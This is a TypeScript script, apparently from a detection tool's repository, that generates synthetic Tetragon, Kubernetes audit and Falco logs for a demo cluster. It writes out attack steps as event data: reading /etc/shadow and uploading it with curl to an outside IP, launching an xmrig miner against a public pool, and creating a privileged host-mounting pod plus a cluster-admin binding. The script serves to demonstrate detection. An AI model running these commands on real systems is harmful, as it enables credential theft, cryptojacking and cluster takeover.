/**
 * Writes the `outlier demo` scenario into examples/demo: 90 minutes of a small
 * three-node cluster as Tetragon (one JSON export per node, process_exec only),
 * the Kubernetes audit log and Falco would have written them.
 *
 *   node scripts/generate-demo.ts [OUT_DIR]        (default: examples/demo)
 *
 * Deterministic (a seeded PRNG, a fixed start time), so the committed files can be
 * checked by regenerating them: packages/cli/src/commands/demo.test.ts does.
 *
 * Periodic work runs on every replica at the same minute marks (a few seconds of
 * jitter), and each rollout starts its pods within seconds of each other, right after
 * a quiet minute: replicas of one workload then look alike to the replica comparison,
 * and only the attacks stand out. docs/replay.md tells the story minute by minute.
 */
import { mkdirSync, writeFileSync } from "node:fs";
import path from "node:path";
import { K8S_SAFE, Random } from "../packages/scenarios/src/random.ts";

const START_MS = Date.parse("2026-03-02T09:00:00Z");
const SEED = 20260302;
const END_MINUTE = 90;
const NODES = ["worker-a", "worker-b", "worker-c"] as const;
type NodeName = (typeof NODES)[number];

// The labelled scenarios' generator (packages/scenarios) draws from the same mulberry32.
const rng = new Random(SEED);

// ---------------------------------------------------------------------------------
// Time: microseconds since START_MS, printed with nine fractional digits (Tetragon)
// or six (the audit log).

const minute = (m: number, seconds = 0): number => Math.round((m * 60 + seconds) * 1e6);
const jitter = (maxSeconds: number): number => rng.int(0, maxSeconds * 1e6);

function rfc3339(us: number, fractionDigits: 6 | 9): string {
  const whole = new Date(START_MS + Math.floor(us / 1e6) * 1000).toISOString().slice(0, 19);
  const micros = String(us % 1e6).padStart(6, "0");
  return `${whole}.${micros}${fractionDigits === 9 ? String(rng.int(0, 999)).padStart(3, "0") : ""}Z`;
}

// ---------------------------------------------------------------------------------
// Output: lines per file, each file written in time order.

const output = new Map<string, { us: number; line: string }[]>();

function emit(file: string, us: number, line: string): void {
  const lines = output.get(file) ?? [];
  lines.push({ us, line });
  output.set(file, lines);
}

// ---------------------------------------------------------------------------------
// Tetragon: nodes, pods and process_exec events.

interface Image {
  repository: string;
  tag: string;
  digest: string;
}

interface Pod {
  namespace: string;
  name: string;
  node: NodeName;
  labels: Record<string, string>;
  workload: string;
  workloadKind: string;
  container: { name: string; id: string; image: Image; startUs: number; pid: number };
}

interface Proc {
  execId: string;
  pid: number;
  uid: number;
  cwd: string;
  binary: string;
  args: string;
  flags: string;
  startTime: string;
  pod?: Pod;
  parentExecId: string;
  inInitTree?: boolean;
  probe?: boolean;
}

interface NodeClock {
  name: NodeName;
  /** Kernel boot time offset (µs before START_MS); exec ids embed ktime. */
  bootUs: number;
  nextPid: number;
}

interface NodeState extends NodeClock {
  /** The container runtime's shim: parent of every container's first process. */
  shim: Proc;
  /** runc: parent of exec probes and `kubectl exec` processes. */
  runc: Proc;
}

const nodes = new Map<NodeName, NodeState>(NODES.map((name) => [name, newNode(name)]));

function newNode(name: NodeName): NodeState {
  const clock: NodeClock = { name, bootUs: rng.int(2, 9) * 86_400e6, nextPid: rng.int(30_000, 40_000) };
  const shim = hostProc(clock, -minute(30), "/usr/bin/containerd-shim-runc-v2", "-namespace k8s.io -address /run/containerd/containerd.sock");
  const runc = hostProc(clock, -minute(30), "/usr/bin/runc", "--root /run/containerd/runc/k8s.io --log /run/containerd/runc.log exec");
  return { ...clock, shim, runc };
}

function hostProc(node: NodeClock, us: number, binary: string, args: string): Proc {
  const pid = node.nextPid++;
  return { execId: execId(node, us, pid), pid, uid: 0, cwd: "/", binary, args, flags: "execve rootcwd", startTime: rfc3339(us, 9), parentExecId: execId(node, us - 1e6, 1) };
}

function execId(node: NodeClock, us: number, pid: number): string {
  return Buffer.from(`${node.name}:${(node.bootUs + us) * 1000 + rng.int(0, 999)}:${pid}`).toString("base64");
}

function image(repository: string, tag: string): Image {
  return { repository, tag, digest: `sha256:${rng.hex(64)}` };
}

interface PodSpec {
  namespace: string;
  name: string;
  node: NodeName;
  labels: Record<string, string>;
  workload: string;
  workloadKind: string;
  container: string;
  image: Image;
  startUs: number;
}

function pod(spec: PodSpec): Pod {
  const { container, image: img, startUs, ...rest } = spec;
  return { ...rest, container: { name: container, id: rng.hex(64), image: img, startUs, pid: 1 } };
}

interface ExecOptions {
  parent: Proc;
  uid: number;
  cwd?: string;
  /** False for processes that entered the container from outside (kubectl exec, probes). */
  inInitTree?: boolean;
  probe?: boolean;
}

/** One process_exec, written to its node's export; returns the process for its children. */
function exec(p: Pod, us: number, binary: string, args: string, opts: ExecOptions): Proc {
  const node = nodes.get(p.node)!;
  const pid = node.nextPid++;
  const proc: Proc = {
    execId: execId(node, us, pid),
    pid,
    uid: opts.uid,
    cwd: opts.cwd ?? "/",
    binary,
    args,
    flags: opts.cwd && opts.cwd !== "/" ? "execve clone" : "execve rootcwd clone",
    startTime: rfc3339(us, 9),
    pod: p,
    parentExecId: opts.parent.execId,
    inInitTree: opts.inInitTree ?? true,
    probe: opts.probe,
  };
  const event = { process_exec: { process: processJson(proc), parent: processJson(opts.parent) }, node_name: node.name, time: rfc3339(us + rng.int(20, 400), 9) };
  emit(`tetragon-${node.name}.jsonl`, us, JSON.stringify(event));
  return proc;
}

/** Tetragon's JSON for a process; zero values and absent fields are left out, as Tetragon does. */
function processJson(p: Proc): Record<string, unknown> {
  return {
    exec_id: p.execId,
    pid: p.pid,
    uid: p.uid,
    cwd: p.cwd,
    binary: p.binary,
    arguments: p.args || undefined,
    flags: p.flags,
    start_time: p.startTime,
    auid: 4294967295,
    pod: p.pod ? podJson(p.pod, p.probe) : undefined,
    docker: p.pod ? p.pod.container.id.slice(0, 31) : undefined,
    parent_exec_id: p.parentExecId,
    tid: p.pid,
    in_init_tree: p.pod ? p.inInitTree : undefined,
  };
}

/** Tetragon puts `maybe_exec_probe` on the pod's container (API message `Container`), not on the process. */
function podJson(p: Pod, probe: boolean | undefined): Record<string, unknown> {
  const c = p.container;
  return {
    namespace: p.namespace,
    name: p.name,
    container: {
      id: `containerd://${c.id}`,
      name: c.name,
      image: { id: `${c.image.repository}@${c.image.digest}`, name: `${c.image.repository}:${c.image.tag}` },
      start_time: rfc3339(c.startUs - (c.startUs % 1e6), 9).replace(/\.\d+Z$/, "Z"),
      pid: c.pid,
      maybe_exec_probe: probe || undefined,
    },
    pod_labels: p.labels,
    workload: p.workload,
    workload_kind: p.workloadKind,
  };
}

/** `fn(m)` at every minute m in [from, to) with m % period === offset. */
function every(period: number, offset: number, from: number, to: number, fn: (m: number) => void): void {
  for (let m = from; m < to; m++) if (m % period === offset) fn(m);
}

// ---------------------------------------------------------------------------------
// Workloads. Each has a start-up (its entrypoint, then its first periodic run) and
// periodic work; `alive` bounds a pod's life in minutes.

interface Running {
  pod: Pod;
  main: Proc;
  until: number;
}

const images = {
  checkout: image("registry.example.com/shop/checkout", "1.42.0"),
  frontendOld: image("registry.example.com/shop/frontend", "3.7.1"),
  frontendNew: image("registry.example.com/shop/frontend", "3.8.0"),
  ledger: image("registry.example.com/bank/ledger", "2.3.4"),
  nodeExporter: image("quay.io/prometheus/node-exporter", "v1.8.2"),
  report: image("registry.example.com/bank/nightly-report", "0.9.1"),
};

function replicaSetPods(deployment: string, namespace: string, team: string, img: Image, placement: NodeName[], startUs: number, staggerUs: number): Pod[] {
  const hash = rng.chars(K8S_SAFE, 10);
  return placement.map((node, i) =>
    pod({
      namespace,
      name: `${deployment}-${hash}-${rng.chars(K8S_SAFE, 5)}`,
      node,
      labels: { app: deployment, team, "pod-template-hash": hash },
      workload: deployment,
      workloadKind: "Deployment",
      container: deployment,
      image: img,
      startUs: startUs + i * staggerUs,
    }),
  );
}

// checkout: three replicas; syncs prices every 2 minutes (sh + curl), flushes metrics every 3.
function checkoutStart(p: Pod, us: number, until: number): Running {
  const entry = exec(p, us, "/docker-entrypoint.sh", "/usr/local/bin/checkout-server --port 8080", { parent: nodes.get(p.node)!.shim, uid: 10001, cwd: "/app" });
  const main = exec(p, us + 200_000, "/usr/local/bin/checkout-server", "--port 8080", { parent: entry, uid: 10001, cwd: "/app" });
  const running = { pod: p, main, until };
  checkoutSync(running, us + 900_000);
  checkoutFlush(running, us + 1_500_000);
  return running;
}

function checkoutSync(r: Running, us: number): void {
  const sh = exec(r.pod, us, "/bin/sh", "/app/scripts/sync-prices.sh", { parent: r.main, uid: 10001, cwd: "/app" });
  exec(r.pod, us + 150_000, "/usr/bin/curl", "-sf -o /tmp/prices.json http://pricing.shop.svc:8080/v1/prices", { parent: sh, uid: 10001, cwd: "/app" });
}

function checkoutFlush(r: Running, us: number): void {
  exec(r.pod, us, "/app/bin/flush-metrics", "--target statsd.monitoring.svc:8125", { parent: r.main, uid: 10001, cwd: "/app" });
}

function checkoutPeriodic(r: Running, from: number): void {
  every(2, 0, from, r.until, (m) => checkoutSync(r, minute(m) + jitter(2)));
  every(3, 0, from, r.until, (m) => checkoutFlush(r, minute(m) + jitter(2)));
  every(2, 1, from, r.until, (m) => probe(r.pod, minute(m) + jitter(8), "/bin/grpc_health_probe", "-addr=:8080", 10001));
}

// frontend: two nginx replicas; renders the sitemap every 3 minutes. Image 3.8.0 adds
// a start-up step, precompress-assets: the new binary of the image diff.
function frontendStart(p: Pod, us: number, until: number): Running {
  const shim = nodes.get(p.node)!.shim;
  const entry = exec(p, us, "/docker-entrypoint.sh", 'nginx -g "daemon off;"', { parent: shim, uid: 0 });
  exec(p, us + 100_000, "/usr/bin/envsubst", "/etc/nginx/templates/default.conf.template", { parent: entry, uid: 0 });
  if (p.container.image === images.frontendNew) {
    exec(p, us + 300_000, "/usr/local/bin/precompress-assets", "--brotli --gzip /usr/share/nginx/html", { parent: entry, uid: 0 });
  }
  const main = exec(p, us + 600_000, "/usr/sbin/nginx", '-g "daemon off;"', { parent: entry, uid: 0 });
  const running = { pod: p, main, until };
  frontendSitemap(running, us + 1_000_000);
  return running;
}

function frontendSitemap(r: Running, us: number): void {
  exec(r.pod, us, "/usr/local/bin/render-sitemap", "--out /usr/share/nginx/html/sitemap.xml", { parent: r.main, uid: 101 });
}

function frontendPeriodic(r: Running, from: number): void {
  every(3, 1, from, r.until, (m) => frontendSitemap(r, minute(m) + jitter(2)));
}

// ledger: a three-member StatefulSet (PostgreSQL plus a checkpoint job every 3 minutes),
// with an exec liveness probe (pg_isready) every minute.
function ledgerStart(p: Pod, us: number, until: number): Running {
  const entry = exec(p, us, "/usr/local/bin/docker-entrypoint.sh", "postgres", { parent: nodes.get(p.node)!.shim, uid: 0, cwd: "/var/lib/postgresql" });
  const main = exec(p, us + 400_000, "/usr/lib/postgresql/16/bin/postgres", "-D /var/lib/postgresql/data -c config_file=/etc/ledger/postgresql.conf", {
    parent: entry,
    uid: 999,
    cwd: "/var/lib/postgresql",
  });
  const running = { pod: p, main, until };
  ledgerCheckpoint(running, us + 2_000_000);
  return running;
}

function ledgerCheckpoint(r: Running, us: number): void {
  exec(r.pod, us, "/usr/local/bin/ledger-checkpoint", "--db ledger --compact", { parent: r.main, uid: 999, cwd: "/var/lib/postgresql" });
}

function ledgerPeriodic(r: Running, from: number): void {
  every(3, 2, from, r.until, (m) => ledgerCheckpoint(r, minute(m) + jitter(2)));
  every(1, 0, from, r.until, (m) => probe(r.pod, minute(m, 30) + jitter(8), "/usr/bin/pg_isready", "-h 127.0.0.1 -U ledger", 999));
}

// node-exporter: a DaemonSet pod per node; its textfile collector runs every 2 minutes.
function nodeExporterStart(p: Pod, us: number, until: number): Running {
  const main = exec(p, us, "/bin/node_exporter", "--path.rootfs=/host --collector.textfile.directory=/var/lib/node-exporter", {
    parent: nodes.get(p.node)!.shim,
    uid: 65534,
  });
  const running = { pod: p, main, until };
  nodeExporterTextfile(running, us + 800_000);
  return running;
}

function nodeExporterTextfile(r: Running, us: number): void {
  const sh = exec(r.pod, us, "/bin/sh", "/scripts/textfile-collector.sh", { parent: r.main, uid: 65534 });
  exec(r.pod, us + 250_000, "/usr/sbin/smartctl", "--scan-open --json", { parent: sh, uid: 65534 });
}

function nodeExporterPeriodic(r: Running, from: number): void {
  every(2, 1, from, r.until, (m) => nodeExporterTextfile(r, minute(m, 15) + jitter(2)));
}

/** An exec probe: the kubelet has runc start it beside the container's process tree. */
function probe(p: Pod, us: number, binary: string, args: string, uid: number): void {
  exec(p, us, binary, args, { parent: nodes.get(p.node)!.runc, uid, inInitTree: false, probe: true });
}

// ---------------------------------------------------------------------------------
// Kubernetes audit log (audit.k8s.io/v1 Event lines) and Falco alerts.

interface AuditSpec {
  us: number;
  stage?: "ResponseStarted" | "ResponseComplete";
  verb: string;
  requestURI: string;
  user: { username: string; groups: string[] };
  userAgent: string;
  objectRef: Record<string, string>;
  code: number;
  requestObject?: unknown;
  reason?: string;
  auditID?: string;
}

const KUBECTL = "kubectl/v1.31.2 (linux/amd64) kubernetes/3c9d4a6";
const MALLORY = { username: "mallory@example.com", groups: ["developers", "system:authenticated"] };
const CI_BOT = { username: "ci-bot@example.com", groups: ["deployers", "system:authenticated"] };
const RS_CONTROLLER = {
  username: "system:serviceaccount:kube-system:replicaset-controller",
  groups: ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"],
};
const JOB_CONTROLLER = {
  username: "system:serviceaccount:kube-system:job-controller",
  groups: ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"],
};

function audit(spec: AuditSpec): string {
  const auditID = spec.auditID ?? rng.uuid();
  const controller = spec.user.username.startsWith("system:serviceaccount:kube-system:");
  const line = {
    kind: "Event",
    apiVersion: "audit.k8s.io/v1",
    level: spec.requestObject ? "RequestResponse" : "Metadata",
    auditID,
    stage: spec.stage ?? "ResponseComplete",
    requestURI: spec.requestURI,
    verb: spec.verb,
    user: spec.user,
    sourceIPs: [controller ? "10.0.0.10" : spec.user === MALLORY ? "198.51.100.23" : "10.0.8.14"],
    userAgent: spec.userAgent,
    objectRef: spec.objectRef,
    responseStatus: { metadata: {}, code: spec.code },
    requestObject: spec.requestObject,
    requestReceivedTimestamp: rfc3339(spec.us, 6),
    stageTimestamp: rfc3339(spec.us + rng.int(2_000, 40_000), 6),
    annotations: {
      "authorization.k8s.io/decision": spec.code === 403 ? "forbid" : "allow",
      "authorization.k8s.io/reason": spec.reason ?? "",
    },
  };
  emit("k8s-audit.jsonl", spec.us, JSON.stringify(line));
  return auditID;
}

function podCreatedByController(p: Pod, us: number, user: typeof RS_CONTROLLER, owner: string): void {
  const generateName = p.name.slice(0, p.name.lastIndexOf("-") + 1);
  const c = p.container;
  audit({
    us,
    verb: "create",
    requestURI: `/api/v1/namespaces/${p.namespace}/pods`,
    user,
    userAgent: "kube-controller-manager/v1.31.2 (linux/amd64) kubernetes/3c9d4a6/system:serviceaccount:kube-system:" + user.username.split(":").pop(),
    objectRef: { resource: "pods", namespace: p.namespace, apiVersion: "v1" },
    code: 201,
    reason: `RBAC: allowed by ClusterRoleBinding "system:controller:${owner}" of ClusterRole "system:controller:${owner}" to ServiceAccount "${owner}/kube-system"`,
    requestObject: {
      kind: "Pod",
      apiVersion: "v1",
      metadata: { generateName, namespace: p.namespace, labels: p.labels },
      spec: {
        containers: [{ name: c.name, image: `${c.image.repository}:${c.image.tag}`, securityContext: { runAsNonRoot: c.name !== "frontend", allowPrivilegeEscalation: false } }],
        restartPolicy: p.workloadKind === "Job" ? "Never" : "Always",
      },
    },
  });
}

function deploymentPatchedByCi(namespace: string, name: string, us: number, template: unknown): void {
  audit({
    us,
    verb: "patch",
    requestURI: `/apis/apps/v1/namespaces/${namespace}/deployments/${name}?fieldManager=kubectl-rollout`,
    user: CI_BOT,
    userAgent: KUBECTL,
    objectRef: { resource: "deployments", namespace, name, apiGroup: "apps", apiVersion: "v1" },
    code: 200,
    reason: 'RBAC: allowed by RoleBinding "deployers/' + namespace + '" of ClusterRole "edit" to Group "deployers"',
    requestObject: template === undefined ? undefined : { spec: { template } },
  });
}

const FALCO_EVT_TIME = "__EVT_TIME__";

/** A Falco alert as its JSON output writes it; `evt.time` is a nanosecond integer beyond 2^53, kept exact. */
function falco(us: number, rule: string, priority: string, tags: string[], text: string, fields: Record<string, unknown>, hostname: NodeName): void {
  const time = rfc3339(us, 9);
  const nanos = `${BigInt(START_MS) * 1_000_000n + BigInt(us) * 1000n + BigInt(time.slice(26, 29))}`;
  const alert = {
    hostname,
    output: `${time.slice(11, 29)}: ${priority} ${text}`,
    output_fields: { ...fields, "evt.time": FALCO_EVT_TIME },
    priority,
    rule,
    source: "syscall",
    tags,
    time,
  };
  const sorted = { ...alert, output_fields: Object.fromEntries(Object.entries(alert.output_fields).sort(([a], [b]) => a.localeCompare(b))) };
  emit("falco.jsonl", us, JSON.stringify(sorted).replace(`"${FALCO_EVT_TIME}"`, nanos));
}

function falcoPodFields(p: Pod): Record<string, unknown> {
  return {
    "container.id": p.container.id.slice(0, 12),
    "container.image.repository": p.container.image.repository,
    "container.image.tag": p.container.image.tag,
    "container.name": p.container.name,
    "k8s.ns.name": p.namespace,
    "k8s.pod.name": p.name,
  };
}

// ---------------------------------------------------------------------------------
// The scenario.

function scenario(): void {
  // Minute 0: everything starts. The first replica of each workload runs its whole
  // start-up alone, so the baseline learns it from the beginning.
  const checkoutV1 = replicaSetPods("checkout", "shop", "payments", images.checkout, ["worker-a", "worker-b", "worker-c"], minute(0), minute(0, 20)).map((p) =>
    checkoutStart(p, p.container.startUs, 66.5),
  );
  const frontendV1 = replicaSetPods("frontend", "shop", "web", images.frontendOld, ["worker-a", "worker-b"], minute(0, 5), minute(0, 20)).map((p) =>
    frontendStart(p, p.container.startUs, 72.5),
  );
  const ledgerRevision = `ledger-${rng.chars(K8S_SAFE, 10)}`;
  const ledger = NODES.map((node, i) =>
    ledgerStart(
      pod({
        namespace: "bank",
        name: `ledger-${i}`,
        node,
        labels: { app: "ledger", team: "core-banking", "controller-revision-hash": ledgerRevision, "statefulset.kubernetes.io/pod-name": `ledger-${i}`, "apps.kubernetes.io/pod-index": String(i) },
        workload: "ledger",
        workloadKind: "StatefulSet",
        container: "ledger",
        image: images.ledger,
        startUs: minute(0, 10 + i * 20),
      }),
      minute(0, 10 + i * 20),
      END_MINUTE,
    ),
  );
  const exporterRevision = rng.chars(K8S_SAFE, 10);
  const exporters = NODES.map((node, i) =>
    nodeExporterStart(
      pod({
        namespace: "monitoring",
        name: `node-exporter-${rng.chars(K8S_SAFE, 5)}`,
        node,
        labels: { "app.kubernetes.io/name": "node-exporter", team: "platform", "controller-revision-hash": exporterRevision, "pod-template-generation": "1" },
        workload: "node-exporter",
        workloadKind: "DaemonSet",
        container: "node-exporter",
        image: images.nodeExporter,
        startUs: minute(0, 2 + i * 15),
      }),
      minute(0, 2 + i * 15),
      END_MINUTE,
    ),
  );
  checkoutV1.forEach((r) => checkoutPeriodic(r, 1));
  frontendV1.forEach((r) => frontendPeriodic(r, 1));
  ledger.forEach((r) => ledgerPeriodic(r, 1));
  exporters.forEach((r) => nodeExporterPeriodic(r, 1));

  // Minute 30: the nightly report Job runs once, on one pod.
  nightlyReport(minute(30));

  // Minute 66 (the baselines locked at about minute 61): `kubectl rollout restart` of
  // checkout. New ReplicaSet hash, new pod names, the same image digest: nothing to report.
  deploymentPatchedByCi("shop", "checkout", minute(65, 50), { metadata: { annotations: { "kubectl.kubernetes.io/restartedAt": "2026-03-02T10:05:50Z" } } });
  const checkoutV2Pods = replicaSetPods("checkout", "shop", "payments", images.checkout, ["worker-b", "worker-c", "worker-a"], minute(66, 10), minute(0, 2));
  checkoutV2Pods.forEach((p, i) => podCreatedByController(p, minute(66, 5) + i * 40_000, RS_CONTROLLER, "replicaset-controller"));
  const checkoutV2 = checkoutV2Pods.map((p) => checkoutStart(p, p.container.startUs, END_MINUTE));
  checkoutV2.forEach((r) => checkoutPeriodic(r, 67));

  // Minute 72: frontend 3.8.0, a new image digest whose start-up runs one new binary.
  deploymentPatchedByCi("shop", "frontend", minute(71, 50), {
    spec: { containers: [{ name: "frontend", image: `${images.frontendNew.repository}:${images.frontendNew.tag}` }] },
  });
  const frontendV2Pods = replicaSetPods("frontend", "shop", "web", images.frontendNew, ["worker-c", "worker-a"], minute(72), minute(0, 5));
  frontendV2Pods.forEach((p, i) => podCreatedByController(p, minute(71, 57) + i * 40_000, RS_CONTROLLER, "replicaset-controller"));
  const frontendV2 = frontendV2Pods.map((p) => frontendStart(p, p.container.startUs, END_MINUTE));
  frontendV2.forEach((r) => frontendPeriodic(r, 73));

  // Minute 78: mallory execs into ledger-1, reads /etc/shadow and uploads it.
  mallorySession(ledger[1]!.pod, minute(78));

  // Minute 80: a remote code execution in one checkout replica starts a miner.
  cryptoMiner(checkoutV2[1]!, minute(80, 30));

  // Minutes 83-86: mallory is refused a secret, then creates a privileged pod and
  // binds herself to cluster-admin.
  malloryEscalates(minute(83));
}

function nightlyReport(us: number): void {
  const controllerUid = rng.uuid();
  const p = pod({
    namespace: "bank",
    name: `nightly-report-${rng.chars(K8S_SAFE, 5)}`,
    node: "worker-b",
    labels: { "batch.kubernetes.io/controller-uid": controllerUid, "batch.kubernetes.io/job-name": "nightly-report", "controller-uid": controllerUid, "job-name": "nightly-report" },
    workload: "nightly-report",
    workloadKind: "Job",
    container: "report",
    image: images.report,
    startUs: us,
  });
  podCreatedByController(p, us - 3_000_000, JOB_CONTROLLER, "job-controller");
  const python = exec(p, us, "/usr/local/bin/python3", "/app/report.py --date 2026-03-01", { parent: nodes.get(p.node)!.shim, uid: 1000, cwd: "/app" });
  exec(p, us + 2_000_000, "/usr/bin/pg_dump", "--table=transactions --format=csv ledger", { parent: python, uid: 1000, cwd: "/app" });
  exec(p, us + 41_000_000, "/usr/bin/gzip", "-9 /tmp/report-2026-03-01.csv", { parent: python, uid: 1000, cwd: "/app" });
  exec(p, us + 47_000_000, "/usr/local/bin/aws", "s3 cp /tmp/report-2026-03-01.csv.gz s3://example-bank-reports/2026/03/", { parent: python, uid: 1000, cwd: "/app" });
}

function mallorySession(p: Pod, us: number): void {
  const query = `command=sh&container=${p.container.name}&stdin=true&stdout=true&tty=true`;
  const execRequest = {
    verb: "create",
    requestURI: `/api/v1/namespaces/${p.namespace}/pods/${p.name}/exec?${query}`,
    user: MALLORY,
    userAgent: KUBECTL,
    objectRef: { resource: "pods", namespace: p.namespace, name: p.name, apiVersion: "v1", subresource: "exec" },
    code: 101,
    reason: 'RBAC: allowed by RoleBinding "developers-exec/bank" of ClusterRole "pod-exec" to Group "developers"',
  };
  const auditID = audit({ ...execRequest, us, stage: "ResponseStarted" });
  const runc = nodes.get(p.node)!.runc;
  const outside = { uid: 0, inInitTree: false };
  const sh = exec(p, us + 350_000, "/bin/sh", "", { ...outside, parent: runc });
  const cat = exec(p, us + minute(0, 12), "/usr/bin/cat", "/etc/shadow", { ...outside, parent: sh });
  exec(p, us + minute(0, 41), "/usr/bin/curl", "-s -T /etc/shadow https://203.0.113.50/u/ledger-1", { ...outside, parent: sh });
  falco(
    us + minute(0, 12) + 420_000,
    "Read sensitive file untrusted",
    "Warning",
    ["filesystem", "mitre_credential_access", "T1555"],
    `Sensitive file opened for reading by non-trusted program (file=/etc/shadow gparent=runc ggparent=<NA> gggparent=<NA> evt_type=openat user=root user_uid=0 user_loginuid=-1 process=cat proc_exepath=/usr/bin/cat parent=sh command=cat /etc/shadow terminal=34816 container_id=${p.container.id.slice(0, 12)} container_name=${p.container.name} k8s_ns=${p.namespace} k8s_pod_name=${p.name})`,
    {
      ...falcoPodFields(p),
      "evt.type": "openat",
      "fd.name": "/etc/shadow",
      "proc.cmdline": "cat /etc/shadow",
      "proc.exepath": "/usr/bin/cat",
      "proc.name": "cat",
      "proc.pid": cat.pid,
      "proc.pname": "sh",
      "proc.ppid": sh.pid,
      "proc.tty": 34816,
      "user.loginuid": -1,
      "user.name": "root",
      "user.uid": 0,
    },
    p.node,
  );
  audit({ ...execRequest, us: us + minute(1, 5), stage: "ResponseComplete", auditID });
}

function cryptoMiner(r: Running, us: number): void {
  const p = r.pod;
  const sh = exec(p, us, "/bin/sh", "-c cd /tmp && ./xmrig -o pool.supportxmr.com:3333 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD -p checkout --background", {
    parent: r.main,
    uid: 10001,
    cwd: "/app",
  });
  const miner = exec(p, us + 120_000, "/tmp/xmrig", "-o pool.supportxmr.com:3333 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD -p checkout --background", {
    parent: sh,
    uid: 10001,
    cwd: "/tmp",
  });
  falco(
    us + 2_400_000,
    "Detect outbound connections to common miner pool ports",
    "Critical",
    ["host", "container", "network", "process", "mitre_impact", "T1496"],
    `Outbound connection to IP/Port flagged by https://cryptoioc.ch (ip=203.0.113.77 port=3333 connection=10.0.2.31:51342->203.0.113.77:3333 lport=51342 rport=3333 fd_type=ipv4 fd_proto=tcp evt_type=connect user=<NA> user_uid=10001 user_loginuid=-1 process=xmrig proc_exepath=/tmp/xmrig parent=sh command=xmrig -o pool.supportxmr.com:3333 terminal=0 container_id=${p.container.id.slice(0, 12)} container_name=${p.container.name} k8s_ns=${p.namespace} k8s_pod_name=${p.name})`,
    {
      ...falcoPodFields(p),
      "evt.type": "connect",
      "fd.name": "10.0.2.31:51342->203.0.113.77:3333",
      "proc.cmdline": "xmrig -o pool.supportxmr.com:3333 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD -p checkout --background",
      "proc.exepath": "/tmp/xmrig",
      "proc.name": "xmrig",
      "proc.pid": miner.pid,
      "proc.pname": "sh",
      "proc.ppid": sh.pid,
      "user.loginuid": -1,
      "user.uid": 10001,
    },
    p.node,
  );
}

function malloryEscalates(us: number): void {
  audit({
    us,
    verb: "get",
    requestURI: "/api/v1/namespaces/bank/secrets/ledger-db",
    user: MALLORY,
    userAgent: KUBECTL,
    objectRef: { resource: "secrets", namespace: "bank", name: "ledger-db", apiVersion: "v1" },
    code: 403,
  });
  audit({
    us: us + minute(1),
    verb: "create",
    requestURI: "/api/v1/namespaces/bank/pods?fieldManager=kubectl-run",
    user: MALLORY,
    userAgent: KUBECTL,
    objectRef: { resource: "pods", namespace: "bank", name: "debug-shell", apiVersion: "v1" },
    code: 201,
    reason: 'RBAC: allowed by RoleBinding "developers-edit/bank" of ClusterRole "edit" to Group "developers"',
    requestObject: {
      kind: "Pod",
      apiVersion: "v1",
      metadata: { name: "debug-shell", namespace: "bank", labels: { run: "debug-shell" } },
      spec: {
        hostPID: true,
        containers: [{ name: "debug-shell", image: "docker.io/library/alpine:3.20", command: ["sleep", "infinity"], securityContext: { privileged: true }, volumeMounts: [{ name: "host", mountPath: "/host" }] }],
        volumes: [{ name: "host", hostPath: { path: "/", type: "Directory" } }],
      },
    },
  });
  audit({
    us: us + minute(2, 30),
    verb: "create",
    requestURI: "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings?fieldManager=kubectl-create",
    user: MALLORY,
    userAgent: KUBECTL,
    objectRef: { resource: "clusterrolebindings", name: "mallory-admin", apiGroup: "rbac.authorization.k8s.io", apiVersion: "v1" },
    code: 201,
    reason: 'RBAC: allowed by ClusterRoleBinding "developers-rbac-escalate" of ClusterRole "rbac-manager" to Group "developers"',
    requestObject: {
      kind: "ClusterRoleBinding",
      apiVersion: "rbac.authorization.k8s.io/v1",
      metadata: { name: "mallory-admin" },
      roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "cluster-admin" },
      subjects: [{ apiGroup: "rbac.authorization.k8s.io", kind: "User", name: "mallory@example.com" }],
    },
  });
}

const README = `# The \`outlier demo\` scenario

Generated by \`node scripts/generate-demo.ts\`: do not edit by hand; change the script and
regenerate (a test checks that these files are exactly what the script writes).

90 minutes (from 2026-03-02T09:00:00Z) of a three-node cluster:

- \`tetragon-worker-*.jsonl\`: each node's Tetragon JSON export (process_exec events only,
  as with \`--export-allowlist '{"event_set":["PROCESS_EXEC"]}'\`);
- \`k8s-audit.jsonl\`: the API server's audit log (audit.k8s.io/v1 Event lines);
- \`falco.jsonl\`: Falco's JSON alerts.

Run it with \`pnpm start\` (\`outlier demo\`); docs/replay.md tells the story and what
each finding shows.
`;

function main(): void {
  const outDir = path.resolve(process.argv[2] ?? path.join(import.meta.dirname, "../examples/demo"));
  scenario();
  mkdirSync(outDir, { recursive: true });
  for (const [file, lines] of [...output.entries()].sort(([a], [b]) => a.localeCompare(b))) {
    const text = lines
      .sort((a, b) => a.us - b.us)
      .map((l) => l.line)
      .join("\n");
    writeFileSync(path.join(outDir, file), `${text}\n`);
  }
  writeFileSync(path.join(outDir, "README.md"), README);
  console.log(`wrote ${output.size} files to ${outDir}`);
}

main();
